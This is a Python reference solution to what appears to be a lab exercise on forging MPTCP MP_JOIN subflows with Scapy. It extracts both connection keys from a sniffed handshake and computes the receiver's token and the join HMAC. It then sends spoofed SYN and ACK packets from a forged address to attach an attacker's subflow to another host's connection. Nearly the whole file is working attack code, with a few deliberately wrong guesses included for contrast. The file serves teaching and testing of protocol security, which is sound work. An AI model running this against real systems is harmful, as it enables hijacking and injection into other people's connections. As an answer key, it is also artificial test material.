"""mptcp_forged_join reference solution.

An MP_JOIN SYN names the connection by the token of its *receiver* (h2):
the top 32 bits of SHA-256 of h2's key, which h1's MP_CAPABLE third ACK
carries in the clear next to h1's own (RFC 8684 §3.1). h2 answers a known
token with its truncated HMAC and nonce; the third ACK must carry
HMAC-SHA256(Key-A || Key-B, R-A || R-B) (A the initiator): without the keys
it is a guess, and h2 resets the subflow. With both keys from the sniffed
handshake it is simply computed: an on-path attacker who saw the handshake
can join (RFC 8684 §5).
"""

from __future__ import annotations

from scapy.layers.inet import IP, TCP

from exercises.scapy_layers import mp_join_ack, mp_join_syn, mptcp_from_packet
from lab.mptcp import crypto

SPOOFED = "10.0.3.7"
PORTS = (50000, 50001, 50002)
NONCES = (1111, 2222, 3333)
ISN = 1000


def keys(sniffed: list[bytes]) -> tuple[int, int]:
    """(h1's key, h2's key) from the MP_CAPABLE option of h1's third ACK."""
    for raw in sniffed:
        p = IP(raw)
        if TCP in p and p[TCP].flags == "A":
            for opt in mptcp_from_packet(p):
                if getattr(opt, "receiver_key", None) is not None:
                    return opt.sender_key, opt.receiver_key
    raise ValueError("no MP_CAPABLE third ACK in what was sniffed")


def attack(sniffed: list[bytes]) -> list:
    key_h1, key_h2 = keys(sniffed)
    token = crypto.key_token(key_h2)  # the receiver's token
    forged = []
    for i, (src, tok) in enumerate((("10.0.3.1", token ^ 0x5A5A5A5A), (SPOOFED, token), (SPOOFED, token))):
        forged.append(
            IP(src=src, dst="10.0.4.2")
            / TCP(sport=PORTS[i], dport=5001, flags="S", seq=ISN, options=[mp_join_syn(tok, nonce=NONCES[i])])
        )
    return forged


def complete(synacks: list[bytes], sniffed: list[bytes]) -> list:
    key_h1, key_h2 = keys(sniffed)
    acks = []
    for p in sorted((IP(r) for r in synacks), key=lambda p: p[TCP].dport):
        port = p[TCP].dport
        i = PORTS.index(port)
        join = next(o for o in mptcp_from_packet(p) if hasattr(o, "truncated_hmac"))
        if i == 1:
            hmac = bytes(20)  # a guess
        else:
            hmac = crypto.mp_join_ack_hmac(key_h1, key_h2, NONCES[i], join.nonce)  # what h1 would send
        acks.append(
            IP(src=SPOOFED, dst="10.0.4.2")
            / TCP(sport=port, dport=5001, flags="A", seq=ISN + 1, ack=p[TCP].seq + 1, options=[mp_join_ack(hmac)])
        )
    return acks
